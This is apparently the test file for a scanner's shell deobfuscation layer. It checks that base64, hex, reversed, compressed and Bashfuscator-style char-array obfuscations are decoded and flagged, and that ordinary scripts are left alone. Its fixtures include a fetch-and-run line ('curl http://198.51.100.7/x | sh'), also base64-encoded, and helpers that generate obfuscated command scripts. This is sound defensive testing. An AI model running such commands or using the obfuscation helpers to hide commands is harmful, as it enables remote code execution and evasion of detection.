"""sh/bash layer: each transformation round-trips alone and stacked; spans, techniques and
findings are recorded; ordinary scripts produce nothing."""

from __future__ import annotations

import random
from collections.abc import Callable

import pytest

from inspector.stage import ScanContext, ScanLimits
from inspector.deobfuscate.common import DeobfuscationLimits
from inspector.deobfuscate.shell import ShellLayer
from inspector.model import ArtifactType, ErrorKind
from tests.deobfuscate.conftest import SHELL_COMMANDS
from tests.deobfuscate.peeling import payload_of, peel
from tests.obfuscation import obfuscators as ob
from tests.obfuscation import shell_frameworks as shf

SH = ArtifactType.SHELL

EXPECTED: dict[Callable[[str, int], str], tuple[tuple[str, ...], str]] = {
    ob.sh_base64_pipe: (("base64",), "deobf.shell.base64_exec"),
    ob.sh_hex_printf: (("printf-escape",), "deobf.shell.escaped_string"),
    ob.sh_ansi_c: (("ansi-c-quoting",), "deobf.shell.escaped_string"),
    ob.sh_xxd: (("xxd-hex",), "deobf.shell.xxd_hex"),
    ob.sh_gzip_base64: (("base64-gzip", "base64-bzip2"), "deobf.shell.compressed"),
    ob.sh_rev: (("rev",), "deobf.shell.reversed"),
    ob.sh_var_splice: (("normalised",), "deobf.shell.variable_splicing"),
    ob.sh_ifs: (("normalised",), "deobf.shell.ifs"),
}


@pytest.mark.parametrize("seed", [0, 1, 2, 3])
@pytest.mark.parametrize("command", SHELL_COMMANDS, ids=["curl-pipe", "dev-tcp", "quotes"])
@pytest.mark.parametrize("transform", list(EXPECTED), ids=lambda f: f.__name__)
def test_each_transformation_round_trips(transform: Callable[[str, int], str], command: str, seed: int) -> None:
    obfuscated = transform(command, seed)
    result = peel(obfuscated, SH)
    assert result.recovered(command), obfuscated
    techniques, finding = EXPECTED[transform]
    assert any(t in result.techniques for t in techniques)
    assert finding in result.finding_ids


STACKS = [
    [ob.sh_ifs, ob.sh_base64_pipe],
    [ob.sh_rev, ob.sh_gzip_base64],
    [ob.sh_var_splice, ob.sh_hex_printf, ob.sh_base64_pipe],
    [ob.sh_ansi_c, ob.sh_xxd],
    [ob.sh_base64_pipe, ob.sh_base64_pipe, ob.sh_rev],
    [ob.sh_hex_printf, ob.sh_var_splice],
    [ob.sh_gzip_base64, ob.sh_ifs],
]


@pytest.mark.parametrize("seed", [0, 1, 2])
@pytest.mark.parametrize("chain", STACKS, ids=lambda c: "+".join(f.__name__[3:] for f in c))
def test_stacked_transformations_round_trip(chain: list[Callable[[str, int], str]], seed: int) -> None:
    command = SHELL_COMMANDS[0]
    obfuscated = ob.stack(command, chain, seed)
    result = peel(obfuscated, SH)
    assert result.recovered(command), obfuscated
    for transform in chain:
        assert EXPECTED[transform][1] in result.finding_ids


def test_decoded_layer_records_span_and_runs_as_shell() -> None:
    script = "#!/bin/sh\necho Y3VybCBodHRwOi8vMTk4LjUxLjEwMC43L3ggfCBzaA== | base64 --decode | sh\n"
    out = ShellLayer().analyze(payload_of(script.encode(), SH), ScanContext(ScanLimits()))
    (child,) = out.children
    assert child.data == b"curl http://198.51.100.7/x | sh"
    assert child.origin == "decoded:base64" and child.type_hint == SH
    span = child.layer.span
    assert span.line == 2 and script[span.offset:span.offset + span.length].startswith("Y3Vyb")
    assert out.urls == ["http://198.51.100.7/x"]


def test_base64_that_is_only_decoded_scores_lower_than_one_that_runs() -> None:
    decoded = peel("echo aGVsbG8gd29ybGQ= | base64 -d > /tmp/note.txt", SH)
    assert "deobf.shell.base64_decode" in decoded.finding_ids
    assert "deobf.shell.base64_exec" not in decoded.finding_ids


BENIGN = """#!/bin/bash
set -euo pipefail
export DEBIAN_FRONTEND=noninteractive
VERSION="1.4.2"
apt-get update && apt-get install -y nginx
curl -fsSL https://packages.microsoft.com/keys/microsoft.asc | gpg --dearmor > /usr/share/keyrings/ms.gpg
mkfs.ext4 /dev/sdc1 && mount /dev/sdc1 /data
echo "installed $VERSION" >> /var/log/setup.log
systemctl enable --now nginx
"""


def test_ordinary_setup_script_is_left_alone() -> None:
    result = peel(BENIGN, SH)
    assert result.layers[1:] == []
    assert result.findings == []


FRAMEWORK_STYLE = {
    shf.sh_char_array: "deobf.shell.char_array",
    shf.sh_glob_program: "deobf.shell.glob_path",
    shf.sh_brace_command: "deobf.shell.brace_command",
}


@pytest.mark.parametrize("seed", [0, 1, 2, 3])
@pytest.mark.parametrize("command", SHELL_COMMANDS[:2], ids=["curl-pipe", "dev-tcp"])
@pytest.mark.parametrize("transform", list(FRAMEWORK_STYLE), ids=lambda f: f.__name__)
def test_framework_style_words_are_rebuilt_in_the_normalised_layer(
        transform: Callable[[str, int], str], command: str, seed: int) -> None:
    obfuscated = transform(command, seed)
    result = peel(obfuscated, SH)
    program, _, rest = command.partition(" ")
    assert any(program in t and rest.split(" ")[0] in t for t in result.texts[1:]), obfuscated
    assert FRAMEWORK_STYLE[transform] in result.finding_ids


def test_one_array_lookup_or_an_unknown_glob_is_not_obfuscation() -> None:
    assert "deobf.shell.char_array" not in peel("a=(x y); echo ${a[1]}", SH).finding_ids
    assert "deobf.shell.glob_path" not in peel("rm -f /var/log/app/*.log /tmp/??zz", SH).finding_ids
    assert "deobf.shell.brace_command" not in peel("mkdir -p /srv/{a,b}; cp x{,.bak}", SH).finding_ids


# --- commands rebuilt from arrays of escaped characters (Bashfuscator-style) ----------------

def _escaped_char(ch: str, style: str) -> str:
    if style == "hex":
        return "$'\\x%02x'" % ord(ch) if ord(ch) < 128 else "$'\\u%04x'" % ord(ch)
    if style == "octal":
        return "$'\\%03o'" % ord(ch) if ord(ch) < 128 else "$'\\u%04x'" % ord(ch)
    return "$'\\u%04x'" % ord(ch)


def _char_array_script(command: str, style: str, shape: str, seed: int) -> str:
    """`a=($'\\x..' ...)` then the command spelled by indices and run by `shape`."""
    rng = random.Random(seed)
    alphabet = sorted(set(command), key=lambda _: rng.random())
    items = " ".join(_escaped_char(ch, style) for ch in alphabet)
    spelled = "".join("${q%d[%d]}" % (seed, alphabet.index(ch)) for ch in command)
    run = {"eval": f'eval "{spelled}"', "bash-c": f'bash -c "{spelled}"', "substitution": f"x=$({spelled})"}[shape]
    return f"q{seed}=({items})\n{run}\n"


@pytest.mark.parametrize("seed", [0, 1])
@pytest.mark.parametrize("shape", ["eval", "bash-c", "substitution"])
@pytest.mark.parametrize("style", ["hex", "octal", "unicode"])
@pytest.mark.parametrize("command", SHELL_COMMANDS, ids=["curl-pipe", "dev-tcp", "quotes"])
def test_command_spelled_from_an_array_of_escaped_characters_becomes_a_decoded_layer(
        command: str, style: str, shape: str, seed: int) -> None:
    obfuscated = _char_array_script(command, style, shape, seed)
    result = peel(obfuscated, SH)
    assert command in result.texts[1:], obfuscated
    assert "char-array" in result.techniques
    assert "deobf.shell.char_array" in result.finding_ids


def test_the_rebuilt_command_layer_runs_as_shell_and_points_at_the_spelled_text() -> None:
    script = _char_array_script("curl http://198.51.100.7/x | sh", "hex", "eval", 0)
    out = ShellLayer().analyze(payload_of(script.encode(), SH), ScanContext(ScanLimits()))
    (child,) = out.children
    assert child.data == b"curl http://198.51.100.7/x | sh"
    assert child.origin == "decoded:char-array" and child.type_hint == SH
    span = child.layer.span
    assert span.line == 2 and script[span.offset:span.offset + span.length].startswith("${q0[")
    assert out.urls == ["http://198.51.100.7/x"]


def test_a_command_with_an_unknown_element_is_not_guessed() -> None:
    script = "a=($'\\x63' $'\\x75' $'\\x72' $'\\x6c')\neval \"${a[0]}${a[1]}${a[9]}${a[3]}\"\n"
    result = peel(script, SH)
    assert "char-array" not in result.techniques
    assert not any("cu" in t and "l" in t for t in result.texts[1:] if "${" not in t)


def test_array_elements_past_the_limit_are_dropped_and_reported() -> None:
    script = _char_array_script("curl http://198.51.100.7/x | sh", "hex", "eval", 0)
    out = ShellLayer(DeobfuscationLimits(max_array_items=3)).analyze(payload_of(script.encode(), SH),
                                                                     ScanContext(ScanLimits()))
    assert not any(c.origin == "decoded:char-array" for c in out.children)
    assert any(kind == ErrorKind.LIMIT_DEOBFUSCATION_SIZE and "elements" in detail for kind, detail in out.errors)


def test_a_rebuilt_command_over_the_size_limit_is_reported_not_emitted() -> None:
    script = _char_array_script("curl http://198.51.100.7/x | sh " + "A" * 200, "hex", "eval", 0)
    out = ShellLayer(DeobfuscationLimits(max_child_bytes=64)).analyze(payload_of(script.encode(), SH),
                                                                      ScanContext(ScanLimits()))
    assert not any(c.origin == "decoded:char-array" for c in out.children)
    assert any(kind == ErrorKind.LIMIT_DEOBFUSCATION_SIZE and "rebuilt" in detail for kind, detail in out.errors)


def test_an_ordinary_array_loop_is_not_a_rebuilt_command() -> None:
    script = ("pkgs=(nginx 'jq' \"curl\")\nfor p in \"${pkgs[@]}\"; do apt-get install -y \"$p\"; done\n"
              "echo \"first: ${pkgs[0]}\"\n")
    result = peel(script, SH)
    assert result.layers[1:] == [] and result.findings == []
